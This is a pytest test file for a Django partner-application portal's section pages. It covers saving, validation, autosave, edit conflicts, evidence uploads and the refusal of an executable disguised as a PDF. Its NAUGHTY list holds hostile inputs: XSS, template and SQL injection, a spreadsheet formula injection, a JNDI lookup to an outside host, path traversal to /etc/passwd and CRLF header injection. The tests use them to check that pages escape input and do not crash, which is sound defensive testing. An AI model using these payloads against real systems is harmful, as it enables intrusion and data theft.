"""The section page: without a script, with one, with a colleague, with documents, and with anything typed."""

from __future__ import annotations

from typing import Any

import pytest
from django.urls import reverse

from partners.models import Evidence
from partners.queries.answers import answers_of
from portal.core.actors import Actor
from portal.core.verdicts import Refused
from tests.factories import partners as make
from tests.factories.accounts import make_member
from tests.world import client_for

pytestmark = pytest.mark.django_db


@pytest.fixture
def draft() -> make.Cast:
    return make.cast()


def url(made: make.Cast, section: str = "security", name: str = "section") -> str:
    return reverse(f"partners:{name}", args=[made.application.pk, section])


def post(actor: Actor, made: make.Cast, section: str = "security", name: str = "section", **data: Any) -> Any:
    return client_for(actor).post(url(made, section, name), {"version": "999999", "page": "p", **data})


def test_saving_goes_on_to_the_next_section(draft: make.Cast) -> None:
    response = post(draft.applicant, draft, asked=["mfa"], mfa="partly", save="1")
    assert response["Location"] == url(draft, "personnel")
    assert answers_of(draft.application)["mfa"] == "partly"


def test_a_wrong_answer_is_saved_and_its_page_says_what_to_enter(draft: make.Cast) -> None:
    response = post(draft.applicant, draft, "personnel", asked=["leavers_hours"], leavers_hours="soon", save="1")
    assert response.status_code == 200
    text = response.content.decode()
    assert "Enter a number in digits" in text
    assert 'value="soon"' in text
    assert answers_of(draft.application)["leavers_hours"] == "soon"


def test_a_question_appears_once_its_condition_holds(draft: make.Cast) -> None:
    page = client_for(draft.applicant).get(url(draft, "data")).content.decode()
    assert "On what legal basis" not in page
    post(draft.applicant, draft, "data", asked=["data_classes"], data_classes=["personal"], save="1")
    assert "On what legal basis" in client_for(draft.applicant).get(url(draft, "data")).content.decode()


def test_what_an_answer_opens_is_shown_before_going_on(draft: make.Cast) -> None:
    sent: dict[str, Any] = {"asked": ["data_classes"], "data_classes": ["personal"], "save": "1"}
    assert post(draft.applicant, draft, "data", **sent)["Location"].startswith(url(draft, "data") + "#id_")
    assert not post(draft.applicant, draft, "data", **sent)["Location"].startswith(url(draft, "data"))


def test_simple_conditions_can_be_followed_by_a_script(draft: make.Cast) -> None:
    page = client_for(draft.applicant).get(url(draft)).content.decode()
    assert 'data-when="past_breach" data-when-value="true" hidden' in page


def test_a_row_can_be_added_without_a_script(draft: make.Cast) -> None:
    data: dict[str, Any] = {"asked": ["directors"], "directors-rows": "1", "directors-0-name": "Ola Hansen"}
    response = post(draft.applicant, draft, "ownership", **data, add_row="directors")
    page = client_for(draft.applicant).get(response["Location"].split("#")[0]).content.decode()
    assert 'name="directors-1-name"' in page
    assert answers_of(draft.application)["directors"] == [{"name": "Ola Hansen", "function": "", "nationality": ""}]


def test_saving_as_one_goes_answers_with_the_time(draft: make.Cast) -> None:
    response = post(draft.applicant, draft, name="autosave", asked=["mfa"], mfa="partly")
    assert response.status_code == 200
    assert response.json()["written"] == ["mfa"]
    assert "UTC" in response.json()["saved"]


def test_a_colleague_who_was_first_is_named_and_both_versions_are_shown(draft: make.Cast) -> None:
    colleague = make_member(draft.institution.organisation, "applicant")
    seen = str(draft.fresh().answers_version)
    post(draft.applicant, draft, name="autosave", asked=["mfa"], mfa="partly", version=seen, page="one")
    again = {"asked": ["mfa"], "mfa": "password", "version": seen, "page": "two"}
    refused = client_for(colleague).post(url(draft, name="autosave"), again)
    assert refused.status_code == 409
    assert str(draft.applicant.user) in refused.json()["reason"]
    page = client_for(colleague).post(url(draft), {**again, "save": "1"})
    text = page.content.decode()
    assert page.status_code == 409
    assert "A second factor for some" in text
    assert 'value="password" class="usa-radio__input" id="id_mfa_3" checked' in text or "checked" in text
    assert answers_of(draft.application)["mfa"] == "partly"


@pytest.fixture
def clashing(draft: make.Cast) -> tuple[make.Cast, Any, dict[str, Any]]:
    """A draft with “partly” from the applicant, a colleague's browser that sent “password”, and what it shows then."""
    colleague = make_member(draft.institution.organisation, "applicant")
    seen = str(draft.fresh().answers_version)
    post(draft.applicant, draft, name="autosave", asked=["mfa"], mfa="partly", version=seen, page="one")
    client = client_for(colleague)
    client.post(url(draft), {"asked": "mfa", "mfa": "password", "version": seen, "page": "two", "save": "1"})
    now = str(draft.fresh().answers_version)
    return (
        draft,
        client,
        {"asked": "mfa", "mfa": "password", "clash": "mfa", "version": now, "page": "three", "save": "1"},
    )


@pytest.mark.parametrize(("stands", "kept"), [("mine", "password"), ("theirs", "partly")])
def test_the_later_one_chooses_which_version_stands(clashing: Any, stands: str, kept: str) -> None:
    draft, client, shown = clashing
    assert client.post(url(draft), {**shown, "stands-mfa": stands}).status_code == 302
    assert answers_of(draft.application)["mfa"] == kept


def test_without_a_choice_nothing_is_overwritten_and_both_versions_stay(clashing: Any) -> None:
    draft, client, shown = clashing
    page = client.post(url(draft), shown)
    text = page.content.decode()
    assert page.status_code == 409
    assert "Choose which of the two answers stands." in text
    assert 'name="stands-mfa" value="theirs"' in text
    assert answers_of(draft.application)["mfa"] == "partly"


def test_saving_as_one_goes_leaves_a_choice_open_and_saves_the_rest(clashing: Any) -> None:
    draft, client, shown = clashing
    data = {**shown, "asked": ["mfa", "monitoring"], "monitoring": "nobody"}
    answer = client.post(url(draft, name="autosave"), data)
    assert answer.json()["written"] == ["monitoring"]
    assert answers_of(draft.application)["mfa"] == "partly"


def test_a_document_is_uploaded_with_the_form_and_chosen(draft: make.Cast) -> None:
    document: dict[str, Any] = {"upload-incident_plan": make.upload("plan.png")}
    post(
        draft.applicant,
        draft,
        "incident_response",
        asked=["incident_plan"],
        **document,
        upload="incident_plan",
    )
    stored = Evidence.objects.get(name="plan.png")
    assert stored.state == "stored"
    assert stored.kind == "incident_plan"
    assert answers_of(draft.application)["incident_plan"] == [str(stored.pk)]


def test_a_refused_document_is_named_with_its_reason_and_changes_nothing(draft: make.Cast) -> None:
    before = answers_of(draft.application)["incident_plan"]
    hostile: dict[str, Any] = {"upload-incident_plan": make.upload("plan.pdf", b"MZ this is a program")}
    response = post(
        draft.applicant,
        draft,
        "incident_response",
        asked=["incident_plan"],
        incident_plan=before,
        **hostile,
        save="1",
    )
    text = response.content.decode()
    assert "plan.pdf: This is a program or a script" in text
    document = Evidence.objects.get(name="plan.pdf")
    assert (document.state, document.stored_name) == ("refused", "")
    assert answers_of(draft.application)["incident_plan"] == before


def test_documents_of_another_institution_are_not_taken(draft: make.Cast) -> None:
    other, stranger = make.make_institution()
    theirs = make.make_evidence(other, stranger)
    post(draft.applicant, draft, "incident_response", asked=["incident_plan"], incident_plan=[str(theirs.pk)], save="1")
    assert answers_of(draft.application)["incident_plan"] == []
    with pytest.raises(Refused, match="not complete"):
        make.submit(draft)


NAUGHTY = [
    "<script>alert(1)</script>",
    "'\"><img src=x onerror=alert(1)>",
    "{{7*7}}{% debug %}",
    "\x00\x01\x1f",
    "\u202e\u2066evil\u2069",
    "𝕳𝖊𝖑𝖑𝖔 👩‍👩‍👧‍👦 ﷽",
    "a" * 20_000,
    "'; DROP TABLE partners_answer;--",
    "\ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "=cmd|' /C calc'!A0",
    "-1e309",
    "NaN",
    "${jndi:ldap://x.example/a}",
    "../../../../etc/passwd",
    "\r\nSet-Cookie: a=b",
    "１２３",
    "null",
    "[]",
    '{"a": 1}',
]


@pytest.mark.parametrize("section", ["organisation", "ownership", "security", "data"])
def test_nothing_that_can_be_typed_breaks_a_page_or_comes_back_unescaped(draft: make.Cast, section: str) -> None:
    from partners.queries.rulebook import rules_of

    client = client_for(draft.applicant)
    keys = [question.key for question in rules_of(draft.application).questionnaire.section(section).questions]
    for text in NAUGHTY:
        data: dict[str, Any] = {"asked": keys, "version": text, "page": text, "add_row": text}
        for key in keys:
            data |= {
                key: [text, text],
                f"{key}-rows": text,
                f"{key}-0-name": text,
                f"{key}-name": text,
                f"{key}_day": text,
            }
        for name in ("section", "autosave"):
            response = client.post(url(draft, section, name), data)
            assert response.status_code < 500, f"{name} {text!r}"
        page = client.get(url(draft, section) + f"?row={keys[0]}&fix").content.decode()
        check = client.get(reverse("partners:check", args=[draft.application.pk])).content.decode()
        for unsafe in ("<script>alert(1)", "<img src=x", "49{%"):
            assert unsafe not in page
            assert unsafe not in check
